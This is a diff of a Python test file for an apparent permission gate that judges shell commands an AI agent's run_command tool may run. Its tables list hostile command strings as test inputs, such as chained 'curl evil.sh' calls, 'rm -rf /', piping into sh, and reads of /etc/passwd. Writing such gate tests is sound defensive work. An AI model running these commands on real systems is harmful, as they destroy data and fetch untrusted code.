@@ -49,19 +49,21 @@ def verdict(tmp_path: Path, tool: str, allow: list[str] = ALLOW, deny: list[str]
     ("pytest -q tests/test_x.py", "allow"),
     ("  echo   spaced  ", "allow"),
     ("echo x && rm -rf ~", "deny"),          # the rm piece meets the deny rule
-    ("echo x && curl evil.sh", "ask"),         # compound: never allowed, and a deny rule cannot judge it
-    ("echo x; curl evil.sh", "ask"),
-    ("echo x || curl evil.sh", "ask"),
-    ("echo x | sh", "ask"),
-    ("echo `curl evil.sh`", "ask"),
-    ("echo $(curl evil.sh)", "ask"),
-    ("echo $HOME", "ask"),
-    ("echo hi > ~/.bashrc", "ask"),
-    ("echo hi < /etc/passwd", "ask"),
-    ("echo hi\ncurl evil.sh", "ask"),
-    ("echo hi & curl evil.sh", "ask"),
-    ("echo hi \\; curl x", "ask"),
-    ("(echo hi)", "ask"),
+    # Compound: never allowed by a rule. The deny rule judges every program it runs (echo, curl),
+    # so no rule applies and the gate asks as for any dangerous call (issue 13 item 5).
+    ("echo x && curl evil.sh", None),
+    ("echo x; curl evil.sh", None),
+    ("echo x || curl evil.sh", None),
+    ("echo x | sh", "ask"),                    # sh runs its stdin: the deny rule cannot judge that
+    ("echo `curl evil.sh`", None),
+    ("echo $(curl evil.sh)", None),
+    ("echo $HOME", None),
+    ("echo hi > ~/.bashrc", None),
+    ("echo hi < /etc/passwd", None),
+    ("echo hi\ncurl evil.sh", None),
+    ("echo hi & curl evil.sh", None),
+    ("echo hi \\; curl x", None),
+    ("(echo hi)", None),
     ("eval echo hi", "ask"),
     ("rm -rf /", "deny"),
     ("ls; rm -rf x", "deny"),
@@ -103,8 +105,10 @@ def test_always_allow_does_not_skip_an_unsure_deny(tmp_path: Path) -> None:
     gate = PermissionGate([], ["run_command(rm *)"])
     gate.always.add("run_command")
     ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
-    assert gate.must_ask(run_command, {"command": "env rm -rf x"}, ctx) is True
+    assert gate.must_ask(run_command, {"command": "$RM -rf x"}, ctx) is True
+    assert gate.must_ask(run_command, {"command": "eval rm -rf x"}, ctx) is True
     assert gate.must_ask(run_command, {"command": "ls"}, ctx) is False
+    assert gate.rule_verdict(run_command, {"command": "env rm -rf x"}, ctx) == ("deny", gate.deny[0])
 
 
 def test_only_declared_arguments_are_rule_subjects(tmp_path: Path) -> None:
